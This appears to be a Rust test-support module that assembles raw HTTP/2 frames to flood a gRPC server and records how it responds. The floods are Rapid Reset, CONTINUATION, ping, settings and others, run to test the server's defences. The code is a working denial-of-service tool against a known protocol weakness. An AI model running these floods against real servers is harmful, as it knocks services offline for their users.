//! Abuse of HTTP/2, made of raw frames: what an attacker sends, and what it is answered. Used by the tests
//! beside this file and by the example that measures what an attack costs others.

use std::{collections::BTreeMap, io, net::SocketAddr};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{
        TcpStream,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
};

pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
pub(crate) const PRIORITY: u8 = 2;
pub(crate) const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
pub(crate) const GOAWAY: u8 = 7;
pub(crate) const WINDOW_UPDATE: u8 = 8;
pub(crate) const CONTINUATION: u8 = 9;
/// A type that no one has defined: to be ignored.
pub(crate) const UNKNOWN: u8 = 0xfa;

pub(crate) const ACK: u8 = 1;
pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;

pub(crate) const PROTOCOL_ERROR: u32 = 1;
pub(crate) const REFUSED_STREAM: u32 = 7;
pub(crate) const ENHANCE_YOUR_CALM: u32 = 11;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADER_BYTES: usize = 9;
/// Frames are sent so many bytes at a time.
const WRITE_BYTES: usize = 16 * 1024;
/// Asked last, to see whether the broker still answers.
const STILL_THERE: [u8; 8] = *b"anybody?";

/// One frame.
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .expect("a frame is short")
        .to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// HPACK: a literal that enters no table, with a name of the static table.
fn literal(index: u8, value: &str) -> Vec<u8> {
    // Four bits of prefix.
    let mut field = match index.checked_sub(15) {
        None => vec![index],
        Some(rest) => vec![0x0f, rest],
    };
    assert!(value.len() < 127, "a length of one byte");
    field.push(value.len() as u8);
    field.extend(value.as_bytes());
    field
}

/// The header block of a gRPC request.
pub(crate) fn grpc_request(path: &str) -> Vec<u8> {
    const POST: u8 = 0x83;
    const SCHEME_HTTP: u8 = 0x86;
    let mut block = vec![POST, SCHEME_HTTP];
    block.extend(literal(4, path));
    block.extend(literal(1, "test"));
    block.extend(literal(31, "application/grpc"));
    block.extend(b"\x00\x02te\x08trailers");
    block
}

/// A request's headers, with a body to come.
pub(crate) fn request(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &grpc_request(path))
}

/// A message in gRPC's framing, which ends the request.
pub(crate) fn last_message(stream: u32, message: &[u8]) -> Vec<u8> {
    let length = u32::try_from(message.len())
        .expect("a message is short")
        .to_be_bytes();
    let body = [&[0][..], &length, message].concat();
    frame(DATA, END_STREAM, stream, &body)
}

/// The stream of a client's request number `index`, from 0 on.
pub(crate) fn stream(index: usize) -> u32 {
    u32::try_from(2 * index + 1).expect("streams are few")
}

/// What the broker answered.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Answer {
    /// The error code of its GOAWAY.
    pub(crate) goaway: Option<u32>,
    /// Streams that it reset, by error code.
    pub(crate) resets: BTreeMap<u32, usize>,
    /// Header blocks that it sent: heads and trailers.
    pub(crate) headers: usize,
    /// Whether it closed the connection.
    pub(crate) is_closed: bool,
    /// How many frames of the flood could be sent.
    pub(crate) sent: usize,
}

/// Sends the preface and `settings`, what `opening` says, and then `count` times what `flood` makes of
/// the number of the round; returns what came back until the connection was closed, or until all that
/// was sent has been seen.
pub(crate) async fn attack(
    address: SocketAddr,
    settings: &[u8],
    opening: &[u8],
    count: usize,
    flood: impl FnMut(usize) -> Vec<u8>,
) -> Answer {
    let socket = TcpStream::connect(address).await.expect("a broker listens");
    socket.set_nodelay(true).expect("it is open");
    let (reading, mut writing) = socket.into_split();
    let beginning = [PREFACE, &frame(SETTINGS, 0, 0, settings), opening].concat();
    let sending = async {
        // A broker that has seen enough reads no more.
        let sent = send(&mut writing, beginning, count, flood).await;
        (sent, writing)
    };
    let receiving = receive(reading);
    let ((sent, _open), answer) = tokio::join!(sending, receiving);
    Answer { sent, ..answer }
}

async fn send(
    writing: &mut OwnedWriteHalf,
    beginning: Vec<u8>,
    count: usize,
    mut flood: impl FnMut(usize) -> Vec<u8>,
) -> usize {
    let mut waiting = beginning;
    for round in 0..count {
        waiting.extend(flood(round));
        if waiting.len() >= WRITE_BYTES {
            if writing.write_all(&waiting).await.is_err() {
                return round;
            }
            waiting.clear();
        }
    }
    waiting.extend(frame(PING, 0, 0, &STILL_THERE));
    match writing.write_all(&waiting).await {
        Ok(()) => count,
        Err(_) => count.saturating_sub(1),
    }
}

async fn receive(mut reading: OwnedReadHalf) -> Answer {
    let mut answer = Answer::default();
    loop {
        let Ok((kind, flags, payload)) = read_frame(&mut reading).await else {
            answer.is_closed = true;
            return answer;
        };
        let code = |at: usize| {
            payload[at..]
                .first_chunk()
                .map_or(0, |code| u32::from_be_bytes(*code))
        };
        match kind {
            GOAWAY => answer.goaway = Some(code(4)),
            RST_STREAM => *answer.resets.entry(code(0)).or_default() += 1,
            HEADERS => answer.headers += 1,
            PING if flags & ACK != 0 && payload == STILL_THERE => return answer,
            _ => {}
        }
    }
}

async fn read_frame(reading: &mut OwnedReadHalf) -> io::Result<(u8, u8, Vec<u8>)> {
    let mut header = [0; HEADER_BYTES];
    reading.read_exact(&mut header).await?;
    let [a, b, c, kind, flags, ..] = header;
    let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
    reading.read_exact(&mut payload).await?;
    Ok((kind, flags, payload))
}

/// A flood by name, with a call in progress at some method.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Flood {
    Ping,
    Settings,
    Priority,
    WindowUpdate,
    Unknown,
    EmptyData,
    EmptyContinuation,
    Continuation,
    RapidReset,
    MalformedRequest,
    EmptyHeaders,
}

impl Flood {
    /// Opens a call to `path`, which never ends by itself, and floods.
    pub(crate) async fn run(self, address: SocketAddr, path: &str, count: usize) -> Answer {
        let opening = [self.call(path), self.first(path)].concat();
        attack(address, &[], &opening, count, |round| {
            self.unit(round, path)
        })
        .await
    }

    /// The call in progress, on the first stream.
    fn call(self, path: &str) -> Vec<u8> {
        request(stream(0), path)
    }

    fn first(self, path: &str) -> Vec<u8> {
        match self {
            Self::Continuation | Self::EmptyContinuation => {
                frame(HEADERS, 0, stream(1), &grpc_request(path))
            }
            _ => Vec::new(),
        }
    }

    fn unit(self, round: usize, path: &str) -> Vec<u8> {
        let next = stream(round + 1);
        match self {
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::Priority => frame(PRIORITY, 0, stream(0), &[0, 0, 0, 0, 16]),
            Self::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Self::Unknown => frame(UNKNOWN, 0, 0, &[]),
            Self::EmptyData => frame(DATA, 0, stream(0), &[]),
            Self::EmptyContinuation => frame(CONTINUATION, 0, stream(1), &[]),
            // A header that is never complete, of some 60 bytes each time.
            Self::Continuation => {
                let field = [b"\x00\x07x-flood\x32", &[b'x'; 50][..]].concat();
                frame(CONTINUATION, 0, stream(1), &field)
            }
            Self::RapidReset => {
                let cancel = frame(RST_STREAM, 0, next, &8_u32.to_be_bytes());
                [request(next, path), cancel].concat()
            }
            // No pseudo-header but one.
            Self::MalformedRequest => frame(HEADERS, END_HEADERS | END_STREAM, next, &[0x83]),
            Self::EmptyHeaders => frame(HEADERS, END_HEADERS | END_STREAM, next, &[]),
        }
    }
}
